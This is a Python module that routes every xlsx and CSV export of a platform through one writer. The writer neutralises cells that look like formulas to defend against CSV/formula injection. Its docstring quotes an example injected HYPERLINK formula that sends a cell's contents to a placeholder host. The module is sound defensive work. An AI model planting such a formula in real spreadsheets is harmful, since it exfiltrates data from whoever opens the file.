"""The one writer of every workbook (xlsx) and CSV file the platform writes (issue 19, finding 4).

A name typed or imported as `=HYPERLINK("http://x/?"&A1,"点击")` and written back into an export
becomes a live formula in the spreadsheet program of whoever opens it (CSV/formula injection):
it can send the sheet's contents away or run commands. Every text cell beginning with `=`, `+`,
`-`, `@`, a tab or a carriage return is therefore written with a leading apostrophe, which every
spreadsheet program shows as text (OWASP's advice for CSV injection); plain numbers such as
`-5.00` stay numbers. The data-subject copy did this on its own since its first version; now
all writers do it here:

    book = sheets.workbook(write_only=True)   # openpyxl's Workbook; its sheets' append neutralise
    sheet = book.create_sheet("…"); sheet.append([...])
    content = sheets.to_bytes(book)            # a full pass over every cell before saving

    writer = sheets.csv_writer(out)            # csv.writer whose rows are neutralised

`core/tests/test_sheets.py` fails when a module other than this one creates a workbook, loads
one for writing or opens a csv writer (readers are listed there).
"""

import csv
import io
import re

import openpyxl
from openpyxl.cell.cell import Cell

# What makes a spreadsheet program read a cell as a formula (or its argument separator).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe(value):
    """The value as text a spreadsheet program will not evaluate; other values unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def unquote(value):
    """What `safe` wrote, read back (for importers of files the platform handed out)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def _safe_cell(item):
    if isinstance(item, Cell):
        if item.data_type == "f" or isinstance(item.value, str):
            item.value = safe(item.value)
        return item
    return safe(item)


def _guard(sheet) -> None:
    append = sheet.append

    def safe_append(row):
        if isinstance(row, dict):
            return append({key: _safe_cell(v) for key, v in row.items()})
        return append([_safe_cell(v) for v in row])

    sheet.append = safe_append


class Workbook(openpyxl.Workbook):
    """openpyxl's Workbook whose sheets neutralise every row appended, and which neutralises every
    cell (values set one by one too) before it saves."""

    def __init__(self, write_only: bool = False, iso_dates: bool = False):
        super().__init__(write_only=write_only, iso_dates=iso_dates)
        for sheet in self._sheets:
            _guard(sheet)

    def create_sheet(self, title=None, index=None):
        sheet = super().create_sheet(title, index)
        _guard(sheet)
        return sheet

    def save(self, filename):
        neutralise(self)
        super().save(filename)


def workbook(*, write_only: bool = False) -> Workbook:
    return Workbook(write_only=write_only)


def neutralise(book) -> None:
    """Every formula or formula-like text cell of a (not write-only) workbook made text."""
    if getattr(book, "write_only", False):
        return  # streamed: each row was neutralised as it was appended
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or isinstance(cell.value, str):
                    cell.value = safe(cell.value)


def to_bytes(book) -> bytes:
    neutralise(book)
    out = io.BytesIO()
    openpyxl.Workbook.save(book, out)
    return out.getvalue()


def data_rows(content: bytes) -> int:
    """Non-empty rows below the header of a platform workbook's first sheet (the data; later
    sheets are lists), read without loading the cells into memory (write-only books carry no
    dimension, so the rows are counted)."""
    book = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    try:
        rows = book.worksheets[0].iter_rows(values_only=True)
        return max(sum(1 for row in rows if any(value not in (None, "") for value in row)) - 1, 0)
    finally:
        book.close()


def load_for_edit(content: bytes):
    """A workbook the platform wrote, opened to add to it (the export watermark); save it with
    `to_bytes`, which neutralises every cell again."""
    return openpyxl.load_workbook(io.BytesIO(content))


class _CsvWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([safe(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **options) -> _CsvWriter:
    """csv.writer over `out` (same options) whose every cell is neutralised."""
    return _CsvWriter(csv.writer(out, **options))
